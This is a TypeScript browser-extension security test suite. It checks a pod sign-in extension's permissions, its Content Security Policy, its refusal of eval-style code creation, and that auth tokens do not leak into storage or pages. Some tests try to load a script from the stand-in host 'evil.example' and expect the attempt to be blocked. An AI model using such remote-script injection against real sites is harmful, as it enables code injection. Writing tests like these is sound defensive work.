import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { journalOf } from '../world/journal.ts';
import { grantedBefore } from '../world/permissions.ts';
import { allowPods, signIn } from '../world/popup.ts';
import { inFirefox } from './browsers.ts';
import { openScene, type Scene } from './scene.ts';
import { readTokens } from './tokens.ts';

let scene: Scene;
let tab: Page;

beforeAll(async () => {
  scene = await openScene();
  tab = await scene.browser.context.newPage();
  await grantedBefore(scene.browser);
});
afterAll(() => scene[Symbol.asyncDispose]());

describe('Latchkey, just installed', () => {
  test('has no host, no script in any page, and no file that a page could load', async () => {
    const manifest = await scene.popup.evaluate(() => chrome.runtime.getManifest());
    for (const key of ['host_permissions', 'content_scripts', 'web_accessible_resources']) {
      // Firefox fills in what a manifest leaves out.
      expect(Reflect.get(manifest, key) ?? []).toEqual([]);
    }
    expect(await hosts()).toEqual([]);
    await tab.goto(`${scene.alice.pod}public/page.html`);
    const file = `${scene.browser.origin}/icons/16.png`;
    expect(await tab.evaluate((url) => fetch(url).then(String, () => 'refused'), file)).toBe('refused');
  });

  test('lets no script from elsewhere into its pages', async () => {
    // As text: Vitest would put a function of its own in the place of import().
    const refused = await scene.popup.evaluate<string>(`new Promise((resolve) => {
      const tell = ({ effectiveDirective, blockedURI }) => resolve(effectiveDirective + ' ' + blockedURI);
      document.addEventListener('securitypolicyviolation', tell, { once: true });
      import('https://evil.example/script.js').catch(() => undefined);
    })`);
    expect(refused).toBe('script-src-elem https://evil.example/script.js');
  });

  test('makes neither code nor elements of text in its pages, nor anybody who could', async () => {
    expect(await scene.popup.evaluate<readonly string[]>(MADE_OF_TEXT)).toEqual(
      ['eval', 'Function', 'src', 'text', 'innerHTML', 'setTimeout', 'Worker', 'policy'].map(
        (name) => `${name} refused`,
      ),
    );
  });
});

/** What DevTools run may use eval itself; what it has called later may not. */
const MADE_OF_TEXT = `(async () => {
  const { port1, port2 } = new MessageChannel();
  const later = new Promise((resolve) => (port1.onmessage = resolve));
  port2.postMessage(null);
  await later;
  const script = document.createElement('script');
  const attempts = {
    eval: () => eval('1'),
    Function: () => new Function('return 1'),
    src: () => (script.src = 'https://evil.example/script.js'),
    text: () => (script.text = '1'),
    innerHTML: () => (document.createElement('p').innerHTML = '<img>'),
    setTimeout: () => setTimeout('1'),
    Worker: () => new Worker('/assets/index.ts-worker.js'),
    policy: () => trustedTypes.createPolicy('any', {}),
  };
  const outcomeOf = (work) => {
    try {
      return 'made ' + work();
    } catch {
      return 'refused';
    }
  };
  return Object.entries(attempts).map(([name, work]) => name + ' ' + outcomeOf(work));
})()`;

describe('After signing in', () => {
  test('no host has been asked for, a private page stays shut, and the popup says what is missing', async () => {
    const { browser, popup, server, alice } = scene;
    await signIn(browser, popup, server, alice);
    expect(await hosts()).toEqual([]);
    await journalOf(tab).open(privatePage(), 401);
    await popup.getByRole('button', { name: `Allow opening pods at ${new URL(server).host}` }).waitFor();
  });

  test('the host is asked for by that button alone, and the page opens', async () => {
    await allowPods(scene.popup);
    const ofSockets = inFirefox ? ['ws://localhost/*'] : [];
    expect(await hosts()).toEqual(['http://localhost/*', ...ofSockets]);
    await journalOf(tab).open(privatePage(), 200);
  });

  test('tokens are in no storage that others read, not in the popup, and not in the page', async () => {
    const { accessToken, refreshToken, idToken } = await readTokens(scene.popup);
    expect(refreshToken).not.toBe(null);
    const places = [
      await scene.popup.evaluate(() => chrome.storage.local.get().then(JSON.stringify)),
      await scene.popup.evaluate(() => chrome.storage.session.get().then(JSON.stringify)),
      await scene.popup.evaluate(() => chrome.storage.sync.get().then(JSON.stringify)),
      await scene.popup.content(),
      await tab.content(),
      ...scene.browser.context.pages().map((page) => page.url()),
    ];
    for (const secret of [accessToken, idToken, refreshToken ?? '']) {
      for (const place of places) expect(place).not.toContain(secret);
    }
  });
});

function privatePage(): string {
  return `${scene.alice.pod}private/plain.html`;
}

async function hosts(): Promise<readonly string[] | undefined> {
  return scene.popup.evaluate(async () => (await chrome.permissions.getAll()).origins);
}
